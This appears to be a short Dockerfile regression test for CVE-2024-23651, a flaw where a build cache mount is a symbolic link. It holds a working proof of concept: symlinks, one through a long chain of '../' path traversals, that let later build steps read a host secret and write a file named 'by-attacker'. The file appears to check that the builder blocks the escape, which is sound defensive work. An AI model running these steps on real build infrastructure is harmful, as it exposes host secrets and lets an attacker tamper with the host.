# class: a part of a cache that is a link (CVE-2024-23651)
# says: RUN --mount
# exit: 0 1
FROM base AS first
ARG GUARD
RUN --mount=type=cache,id=l,target=/c ln -sfn $GUARD /c/way && ln -sfn ../../../../../../../..$GUARD /c/dots
FROM first
RUN --mount=type=cache,id=l,source=way,target=/m cat /m/secret; touch /m/open/by-attacker; true
RUN --mount=type=cache,id=l,source=dots,target=/m cat /m/secret; touch /m/open/by-attacker; true
